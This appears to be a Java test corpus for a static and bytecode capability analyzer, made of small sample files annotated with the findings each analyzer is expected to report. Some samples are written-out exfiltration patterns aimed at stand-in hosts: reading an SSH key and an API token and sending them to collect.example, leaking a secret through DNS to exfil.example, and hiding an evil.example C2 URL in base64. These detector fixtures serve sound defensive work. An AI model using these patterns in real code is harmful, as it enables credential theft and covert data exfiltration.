package dev.clearbox.analyzers.bytecode;

import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Java snippets analyzed by both analyzers, mirroring the source analyzer's tests. {@code // expect:}
 * markers are what the source analyzer reports on a line (as in its own tests); {@code // bin:} markers
 * what the bytecode analysis reports there.
 */
public final class Corpus {
    static final String ROOT = "src/main/java/";
    /** Where {@link #LOOKALIKES} lives under {@link #ROOT}. */
    public static final String LOOKALIKES_FILE = "com/acme/lookalike/Lookalikes.java";
    /**
     * The vendor's own types with methods named like every modelled API, called, with data from one passed to
     * another: no capability, no flow, no hidden string, no shadowed API, in either analyzer.
     */
    public static final String LOOKALIKES = """
            package com.acme.lookalike;
            class Lookalikes {
                static final class Store {
                    String readString(String path) { return path; }
                    void writeString(String path, String text) { }
                    void delete(String path) { }
                }
                static final class Settings {
                    String getenv(String key) { return key; }
                    String getProperty(String key) { return key; }
                }
                static final class Shell {
                    void exec(String command) { }
                    void start() { }
                }
                static final class Plugins {
                    Object forName(String name) { return name; }
                    Object invoke(Object target) { return target; }
                    void loadLibrary(String name) { }
                    Object load(Object type) { return type; }
                    Object defineClass(String name, byte[] code) { return name; }
                }
                static final class Wire {
                    void connect(String host) { }
                    void send(String text) { }
                    String getByName(String host) { return host; }
                    Object readObject() { return null; }
                }
                static final class Codec {
                    Object getInstance(String algorithm) { return algorithm; }
                    Object eval(String script) { return script; }
                }
                static final class Desk {
                    Object getData(Object flavor) { return flavor; }
                    Object createScreenCapture(Object area) { return area; }
                    byte[] getHardwareAddress() { return new byte[0]; }
                }
                void run(Store store, Settings settings, Shell shell, Plugins plugins, Wire wire, Codec codec, Desk desk) {
                    String home = settings.getProperty("user.home");
                    String token = settings.getenv("API_TOKEN");
                    String key = store.readString(home + "/.ssh/id_rsa");
                    store.writeString("out.txt", key);
                    store.delete("out.txt");
                    shell.exec("id");
                    shell.start();
                    Object plugin = plugins.forName("com.acme.Plugin");
                    plugins.invoke(plugin);
                    plugins.loadLibrary("helper");
                    plugins.load(plugin);
                    plugins.defineClass("com.acme.Plugin", new byte[0]);
                    wire.connect(wire.getByName(token + ".example"));
                    wire.send(key + token);
                    wire.readObject();
                    codec.getInstance("AES");
                    codec.eval("1 + 1");
                    desk.getData(desk.createScreenCapture(desk.getHardwareAddress()));
                }
            }
            """;

    private Corpus() {
    }

    static Map<String, String> sources() {
        Map<String, String> m = new LinkedHashMap<>();
        m.put("com/acme/config/Endpoints.java", """
                package com.acme.config;
                public final class Endpoints {
                    public static final String BASE = "https://telemetry.example";
                    public static final String COLLECT = BASE + "/v2/collect";
                }
                """);
        m.put("com/acme/app/Telemetry.java", """
                package com.acme.app;
                import com.acme.config.Endpoints;
                import java.net.URI;
                import java.net.http.HttpClient;
                import java.net.http.HttpRequest;
                import java.net.http.HttpResponse;
                class Telemetry {
                    void send(String payload) throws Exception {
                        HttpClient client = HttpClient.newHttpClient();
                        HttpRequest request = HttpRequest.newBuilder(URI.create(Endpoints.COLLECT))
                                .POST(HttpRequest.BodyPublishers.ofString(payload)).build();
                        client.send(request, HttpResponse.BodyHandlers.ofString()); // expect: NETWORK, endpoint=https://telemetry.example/v2/collect // bin: NETWORK, endpoint=https://telemetry.example/v2/collect, api=java.net.http.HttpClient#send
                    }
                }
                """);
        m.put("com/acme/Check.java", """
                package com.acme;
                import java.net.InetAddress;
                import java.net.Socket;
                import java.net.URL;
                class Check {
                    void run(String id, String secret) throws Exception {
                        new URL("https://updates.example/check?id=" + id).openStream(); // expect: NETWORK, endpoint=https://updates.example/check?id={…} // bin: NETWORK, endpoint=https://updates.example/check?id={…}
                        Socket s = new Socket("10.1.2.3", 443); // expect: NETWORK, endpoint=10.1.2.3, api=java.net.Socket#<init> // bin: NETWORK, endpoint=10.1.2.3, api=java.net.Socket#<init>
                        InetAddress.getByName(secret + ".exfil.example"); // expect: DNS, endpoint={…}.exfil.example // bin: DNS, endpoint={…}.exfil.example
                    }
                }
                """);
        m.put("com/acme/Fetch.java", """
                package com.acme;
                import java.net.URL;
                import javax.net.ssl.HttpsURLConnection;
                class Fetch {
                    byte[] fetch() throws Exception {
                        String address = "https://cdn.example/blob";
                        URL url = new URL(address);
                        HttpsURLConnection c = (HttpsURLConnection) url.openConnection(); // expect: NETWORK, endpoint=https://cdn.example/blob // bin: NETWORK, endpoint=https://cdn.example/blob
                        return c.getInputStream().readAllBytes(); // expect: NETWORK, api=java.net.URLConnection#getInputStream // bin: NETWORK, api=java.net.HttpURLConnection#getInputStream
                    }
                }
                """);
        m.put("com/acme/Beacon.java", """
                package com.acme;
                class Beacon extends java.net.Socket {
                    Beacon() throws Exception {
                        super("beacon.example", 80); // expect: NETWORK, api=java.net.Socket#<init>, endpoint=beacon.example // bin: NETWORK, api=java.net.Socket#<init>, endpoint=beacon.example
                    }
                    static Beacon open() throws Exception {
                        return new Beacon(); // expect: NETWORK, api=java.net.Socket#<init> // bin: NETWORK, api=java.net.Socket#<init>
                    }
                }
                """);
        m.put("com/acme/Harvest.java", """
                package com.acme;
                import java.io.FileInputStream;
                import java.io.OutputStream;
                import java.net.Socket;
                import java.nio.file.Files;
                import java.nio.file.Path;
                import java.util.Base64;
                import static java.lang.System.getenv;
                class Harvest {
                    void run() throws Exception {
                        String key = Files.readString(Path.of(System.getProperty("user.home"), ".ssh/id_rsa")); // expect: FILE_READ; SYSTEM_PROPERTY // bin: FILE_READ; SYSTEM_PROPERTY
                        Files.writeString(Path.of("out.txt"), key); // expect: FILE_WRITE // bin: FILE_WRITE
                        try (var in = new FileInputStream("/etc/passwd")) { } // expect: FILE_READ, api=java.io.FileInputStream#<init> // bin: FILE_READ, api=java.io.FileInputStream#<init>
                        String token = getenv("API_TOKEN"); // expect: ENV // bin: ENV
                        java.util.function.Function<String, String> env = System::getenv; // expect: ENV // bin: ENV
                        String packed = Base64.getEncoder().encodeToString(token.getBytes());
                        Socket socket = new Socket("collect.example", 443); // expect: NETWORK // bin: NETWORK
                        OutputStream out = socket.getOutputStream(); // expect: NETWORK // bin: NETWORK
                        out.write(packed.getBytes()); // bin: FLOW, endpoint=collect.example
                    }
                }
                """);
        m.put("com/acme/Loader.java", """
                package com.acme;
                import java.lang.reflect.Method;
                import java.net.URL;
                import java.net.URLClassLoader;
                import java.util.ServiceLoader;
                class Loader {
                    native int peek(long address); // expect: NATIVE, api=com.acme.Loader#peek
                    void run(URL[] urls) throws Exception {
                        Runtime.getRuntime().exec("id"); // expect: PROCESS_EXEC // bin: PROCESS_EXEC
                        new ProcessBuilder("sh", "-c", "id").start(); // expect: PROCESS_EXEC // bin: PROCESS_EXEC
                        Class<?> c = Class.forName("com.acme.Plugin"); // expect: REFLECTION // bin: REFLECTION
                        Method m = c.getMethod("go"); // expect: REFLECTION // bin: REFLECTION
                        m.invoke(null); // expect: REFLECTION // bin: REFLECTION
                        new URLClassLoader(urls); // expect: CLASS_LOADING // bin: CLASS_LOADING
                        ServiceLoader.load(Runnable.class); // expect: CLASS_LOADING // bin: CLASS_LOADING
                        System.loadLibrary("helper"); // expect: NATIVE // bin: NATIVE
                    }
                }
                """);
        m.put("com/acme/Misc.java", """
                package com.acme;
                import java.awt.Robot;
                import java.awt.Rectangle;
                import java.awt.Toolkit;
                import java.awt.datatransfer.DataFlavor;
                import java.io.InputStream;
                import java.io.ObjectInputStream;
                import java.net.NetworkInterface;
                import javax.crypto.Cipher;
                import javax.script.ScriptEngine;
                import javax.script.ScriptEngineManager;
                class Misc {
                    void run(InputStream in, NetworkInterface nic) throws Exception {
                        ObjectInputStream ois = new ObjectInputStream(in); // expect: SERIALIZATION // bin: SERIALIZATION
                        Object o = ois.readObject(); // expect: SERIALIZATION // bin: SERIALIZATION
                        Cipher.getInstance("AES/GCM/NoPadding"); // expect: CRYPTO // bin: CRYPTO
                        ScriptEngine js = new ScriptEngineManager().getEngineByName("js"); // expect: SCRIPT_ENGINE // bin: SCRIPT_ENGINE
                        js.eval("1 + 1"); // expect: SCRIPT_ENGINE // bin: SCRIPT_ENGINE
                        Object clip = Toolkit.getDefaultToolkit().getSystemClipboard().getData(DataFlavor.stringFlavor); // expect: CLIPBOARD; CLIPBOARD // bin: CLIPBOARD; CLIPBOARD
                        new Robot().createScreenCapture(new Rectangle(0, 0, 10, 10)); // expect: SCREEN_CAPTURE // bin: SCREEN_CAPTURE
                        byte[] mac = nic.getHardwareAddress(); // expect: SYSTEM_INFO // bin: SYSTEM_INFO
                        ProcessHandle.allProcesses().count(); // expect: SYSTEM_INFO // bin: SYSTEM_INFO
                    }
                }
                """);
        m.put("com/acme/Raw.java", """
                package com.acme;
                import sun.misc.Unsafe;
                class Raw {
                    long read(Unsafe u, long address) {
                        return u.getLong(address); // expect: NATIVE, api=sun.misc.Unsafe#getLong // bin: NATIVE, api=sun.misc.Unsafe#getLong
                    }
                }
                """);
        m.put("com/acme/Hidden.java", """
                package com.acme;
                import java.net.URL;
                class Hidden {
                    static final String A = "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw=="; // expect: HIDDEN_STRING
                    void run() throws Exception {
                        String host = new String(new char[] {'c', '2', '.', 'e', 'x', 'a', 'm', 'p', 'l', 'e'}); // expect: HIDDEN_STRING
                        new URL("https://" + host + "/x").openStream(); // expect: NETWORK, endpoint=https://c2.example/x // bin: NETWORK, endpoint=https://{…}/x
                    }
                }
                """);
        m.put(LOOKALIKES_FILE, LOOKALIKES);
        m.put("com/acme/Mailer.java", """
                package com.acme;
                class Mailer {
                    static class Socket {
                        Socket(String host, int port) { }
                        void send(String text) { }
                    }
                    void run() {
                        Socket s = new Socket("evil.example", 25);
                        s.send("hello");
                    }
                }
                """);
        return m;
    }
}
